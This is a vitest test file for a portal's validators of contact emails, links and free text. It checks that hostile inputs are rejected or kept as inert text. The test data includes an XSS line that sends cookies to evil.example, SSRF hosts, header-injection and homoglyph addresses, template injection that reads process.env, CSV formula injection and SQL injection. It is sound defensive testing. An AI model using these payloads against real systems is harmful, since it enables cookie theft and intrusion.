import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { assessAddress } from "@/lib/kernel/address";
import { csvCell } from "@/lib/kernel/csv";
import { domainLists } from "@/lib/kernel/domain";
import { manyLines, singleLine } from "@/lib/kernel/text";
import { assessUrl, displayUrl } from "@/lib/kernel/url";
import { hostileCases } from "../data/hostile";

/** Every case of the input areas: what these pure functions decide is shown here, the rest says where it is shown. */
type Expected = Readonly<Record<string, unknown>> | string;
type Table = Readonly<Record<string, readonly (readonly [input: string, expected: Expected])[]>>;

const around = { portalDomain: "portal.example", memberDomains: ["corp.example", "paynow.example"], domains: domainLists };

const oneAddress = "Contact alias must be one address, without a name or a second address";
const noHidden = "Contact alias must not include line breaks or hidden characters. Type it instead of pasting it";
const noBrackets = "Contact alias must not include quotation marks, brackets or backslashes";
const format = "Enter a contact alias in the correct format, like security@example.com";
const notOwned = (domain: string) => `Contact alias must be on a domain your organization owns, not ${domain}`;
const notPublic = (domain: string) => `Contact alias must be on a public domain, like security@example.com, not ${domain}`;
const accepted = (address: string, warnings: readonly string[] = []) => ({ address, warnings });

const addresses: Table = {
  "HC-EML-001": [['"sec team"@corp.example', noBrackets]],
  "HC-EML-002": [["sec@corp.example;attacker@evil.example", oneAddress]],
  "HC-EML-003": [["sec@corp.example attacker@evil.example", oneAddress]],
  "HC-EML-004": [["sec@corp.example\r\nBcc: attacker@evil.example", noHidden]],
  "HC-EML-005": [["sec@corp.example\nX-Second: header", noHidden]],
  "HC-EML-006": [["attacker\uff20evil.example@corp.example", oneAddress]],
  "HC-EML-007": [
    ["s\u0435c@corp.example", "Contact alias must use only unaccented letters a to z, digits and common punctuation before the @"],
  ],
  "HC-EML-008": [["sec@\u0441orp.example", accepted("sec@xn--orp-3ed.example", ["confusable"])]],
  "HC-EML-009": [
    ["psirt@xn--pynow-4ve.example", accepted("psirt@xn--pynow-4ve.example", ["confusable"])],
    ["psirt@p\u0430ynow.example", accepted("psirt@xn--pynow-4ve.example", ["confusable"])],
  ],
  "HC-EML-010": [["sec@\uff47\uff4d\uff41\uff49\uff4c.com", notOwned("gmail.com")]],
  "HC-EML-011": [["sec@googlemail.com", notOwned("googlemail.com")]],
  "HC-EML-012": [["sec@mail.gmail.com", notOwned("gmail.com")]],
  "HC-EML-013": [["sec@corp.onmicrosoft.com", accepted("sec@corp.onmicrosoft.com", ["hosted"])]],
  "HC-EML-014": [["sec@corp.github.io", accepted("sec@corp.github.io", ["hosted"])]],
  "HC-EML-015": [["sec@anything.mailinator.com", notOwned("mailinator.com")]],
  "HC-EML-016": [["sec@corp..example", format]],
  "HC-EML-017": [[`${"a".repeat(65)}@corp.example`, "Contact alias must have 64 characters or less before the @"]],
  "HC-EML-018": [
    [`sec@${"a".repeat(60)}.${"b".repeat(60)}.${"c".repeat(60)}.${"d".repeat(60)}.example`, "Contact alias must be 254 characters or less"],
  ],
  "HC-EML-019": [[`${"a".repeat(1_000_000)}@corp.example`, "Contact alias must be 254 characters or less"]],
  "HC-EML-020": [
    ["sec@[127.0.0.1]", noBrackets],
    ["sec@[IPv6:::1]", noBrackets],
  ],
  "HC-EML-021": [
    ["sec@localhost", notPublic("localhost")],
    ["sec@corp", notPublic("corp")],
    ["sec@corp.local", notPublic("corp.local")],
  ],
  "HC-EML-022": [["Corp <sec@corp.example>", oneAddress]],
  "HC-EML-023": [
    ["sec%attacker@corp.example", format],
    ["corp.example!sec@evil.example", format],
  ],
  "HC-EML-024": [["s\u200bec@corp.example", noHidden]],
  "HC-EML-025": [["\u202esec@corp.example", noHidden]],
  "HC-EML-026": [["PSIRT@corp.example", { address: "PSIRT@corp.example", folded: "psirt@corp.example", warnings: [] }]],
  "HC-EML-027": [["SEC@CORP.EXAMPLE", accepted("SEC@corp.example")]],
  "HC-EML-028": [["sec+istio@corp.example", { address: "sec+istio@corp.example", folded: "sec+istio@corp.example", warnings: [] }]],
  "HC-EML-029": [
    ["o'brien-security_team@corp.example", accepted("o'brien-security_team@corp.example")],
    ["argoprod@us.corp.example", { address: "argoprod@us.corp.example", registrableDomain: "corp.example", warnings: [] }],
  ],
  "HC-EML-030": [
    ["sec@corp.technology", accepted("sec@corp.technology")],
    ["sec@corp.xn--p1ai", accepted("sec@corp.xn--p1ai")],
  ],
  "HC-EML-031": [["anything@portal.example", notOwned("portal.example")]],
  "HC-EML-034": [["john.doe@corp.example", accepted("john.doe@corp.example", ["personal"])]],
};

const scheme = "Link must start with https://";
const host = "Link must have a public web address, like https://example.com/security";
const noControl = "Link must not include spaces, line breaks or control characters";
const noUser = "Link must not include a user name or password";
const overHttps = (...hosts: string[]) =>
  hosts.flatMap(
    (each) =>
      [
        [`http://${each}/`, scheme],
        [`https://${each}/`, host],
      ] as const,
  );
const unchanged = (url: string) => [url, { url, shown: url.replace("https://", "") }] as const;

const links: Table = {
  "HC-URL-001": [
    ["JaVaScRiPt&#58;alert(1)", scheme],
    ["java\tscript:alert(1)", noControl],
  ],
  "HC-URL-002": [
    ["vbscript:msgbox(1)", scheme],
    ["blob:https://corp.example/uuid", scheme],
  ],
  "HC-URL-003": [["file:///etc/passwd", scheme]],
  "HC-URL-004": [
    ["gopher://127.0.0.1:6379/_INFO", scheme],
    ["ftp://corp.example/x", scheme],
  ],
  "HC-URL-005": overHttps("[::ffff:169.254.169.254]"),
  "HC-URL-006": overHttps("0x7f.1", "017700000001"),
  "HC-URL-007": overHttps("\u2460\u2461\u2466.\u24ea.\u24ea.\u2460"),
  "HC-URL-008": overHttps("0.0.0.0", "127.1", "[::1]", "2130706433", "127.0.0.1.", "%31%32%37.0.0.1", "localhost", "web.internal"),
  "HC-URL-009": overHttps("10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1"),
  "HC-URL-011": [
    ["https://user:pass@corp.example/", noUser],
    ["https://corp.example@evil.example/", noUser],
  ],
  "HC-URL-012": [["https://corp.example\t.evil.example/", noControl]],
  "HC-URL-013": [
    [
      "https://\u0430\u0440\u0440\u04cf\u0435.example/",
      { url: "https://xn--80ak6aa92e.example/", shown: "xn--80ak6aa92e.example/", mistakenFor: "apple.example" },
    ],
  ],
  "HC-URL-014": [
    ["https://corp.example/\u202egpj.exe", { url: "https://corp.example/%E2%80%AEgpj.exe", shown: "corp.example/%E2%80%AEgpj.exe" }],
  ],
  "HC-URL-015": [
    ["//evil.example/x", scheme],
    ["https:evil.example", scheme],
    ["https:///evil.example", scheme],
    ["https:\\\\evil.example", scheme],
    ["https://corp.example\\.evil.example", host],
  ],
  "HC-URL-018": [
    unchanged("https://corp.example/security?x=1&y=2#policy"),
    unchanged("https://github.com/corp/repo"),
    unchanged("https://corp.example/a%20b"),
  ],
};

const tooMuch = "Description must be 2,000 characters or less";
const oneLine = "Organization name must be one line, without control characters";
const emptyField = "Enter the description";
const literal = (text: string) => [text, { text }] as const;

/** Free text, but for the cases of the organization name, which is one line. */
const texts: Table = {
  "HC-TXT-001": [["a".repeat(1_048_576), tooMuch]],
  "HC-TXT-002": [["before\u0000after", "Description must not include control characters"]],
  "HC-TXT-005": [literal('<script>fetch("//evil.example?c="+document.cookie)</script>')],
  "HC-TXT-006": [literal("</textarea><form action=//evil.example><input name=x>")],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the hostile text is exactly that
  "HC-TXT-008": [literal('{{constructor.constructor("return process.env")()}} and ${process.env.AUTH_SECRET} and <%= 7*7 %>')],
  "HC-TXT-009": [["=cmd|'/c calc'!A1", { text: "=cmd|'/c calc'!A1", cell: `"'=cmd|'/c calc'!A1"` }]],
  "HC-TXT-010": [[`a${"\u0301".repeat(5_000)}`, "Organization name must be 200 characters or less"]],
  "HC-TXT-011": [["Corp\nApproved by: chair", oneLine]],
  "HC-TXT-012": [
    ["   ", emptyField],
    ["\u3164\u3164", emptyField],
    ["\u2800", emptyField],
    ["\u200b \u00a0\n", emptyField],
  ],
  "HC-TXT-014": [literal("'; DROP TABLE applications;--"), literal("' OR 1=1 --")],
};
const organizationNames = ["HC-TXT-009", "HC-TXT-010", "HC-TXT-011"];

/** Cases that need a page, a database, an email or a worker, and the test that shows them. */
const shownElsewhere: Readonly<Record<string, readonly [test: string, why: string]>> = {
  "HC-EML-032": ["tests/evidence/no-mail.test.ts", "needs a name server and the worker"],
  "HC-EML-033": ["tests/evidence/no-mail.test.ts", "needs a name server and the worker"],
  "HC-URL-010": ["tests/evidence/egress.test.ts", "needs the client that reads public pages"],
  "HC-URL-016": ["tests/evidence/egress.test.ts", "needs the client that reads public pages"],
  "HC-URL-017": ["tests/application/hostile-input.test.ts", "the limit on links is the criterion's"],
  "HC-URL-019": ["tests/components/rendering.test.tsx", "needs the component that draws a link"],
  "HC-TXT-003": ["tests/application/hostile-input.test.ts", "needs the route that reads a posted form"],
  "HC-TXT-004": ["tests/kernel/form-body.test.ts", "needs the route that reads a posted form"],
  "HC-TXT-007": ["tests/email/hostile-words.test.ts", "needs the emails that quote applicants"],
  "HC-TXT-013": ["tests/kernel/log.test.ts", "needs the log"],
  "HC-TXT-015": ["tests/review/queries.test.ts", "needs the queue"],
};

function assessedAddress(input: string): Expected {
  const assessment = assessAddress(input, around);
  if (!assessment.ok) return assessment.message;
  const { ok: _, warnings, ...rest } = assessment;
  return { ...rest, warnings: warnings.map(({ code }) => code) };
}

function assessedLink(input: string): Expected {
  const assessment = assessUrl(input, "Link");
  if (!assessment.ok) return assessment.message;
  const { host: shownHost, path, ...rest } = displayUrl(assessment.url);
  return { url: assessment.url, shown: `${shownHost}${path}`, ...rest };
}

function readText(id: string, input: string): Expected {
  const field = organizationNames.includes(id)
    ? singleLine(200, { name: "Organization name", empty: "Enter the name of your organization" })
    : manyLines(2000, { name: "Description", empty: emptyField });
  const read = field.safeParse(input);
  return read.success ? { text: read.data, cell: csvCell(read.data) } : read.error.issues.map(({ message }) => message).join("; ");
}

const areas = [
  { area: "input-email", table: addresses, assess: (_: string, input: string) => assessedAddress(input) },
  { area: "input-url", table: links, assess: (_: string, input: string) => assessedLink(input) },
  { area: "input-text", table: texts, assess: readText },
] as const;

describe.each(areas)("hostile $area", ({ area, table, assess }) => {
  const rows = hostileCases(area).flatMap(({ id, when }) => (table[id] ?? []).map(([input, expected]) => ({ id, when, input, expected })));

  test.each(rows)("$id: $when", ({ id, input, expected }) => {
    const assessment = assess(id, input);
    if (typeof expected === "string") expect(assessment).toBe(expected);
    else expect(assessment).toMatchObject(expected);
  });

  test("every case is decided here or shown elsewhere, none twice", () => {
    const ids = hostileCases(area).map(({ id }) => id);
    const elsewhere = Object.keys(shownElsewhere).filter((id) => ids.includes(id));
    expect([...Object.keys(table), ...elsewhere].sort()).toEqual(ids.toSorted());
  });
});

test("a member's name in several scripts is accepted as typed, and stays text in a table", () => {
  const name = "M\u00fcller & S\u00f6hne (\u682a\u5f0f\u4f1a\u793e) \u2014 Security";
  expect(readText("HC-TXT-009", name)).toEqual({ text: name, cell: `"${name}"` });
});

test("what is shown elsewhere is named by a test of that file", () => {
  expect(Object.entries(shownElsewhere).filter(([id, [file]]) => !readFileSync(file, "utf8").includes(id))).toEqual([]);
});
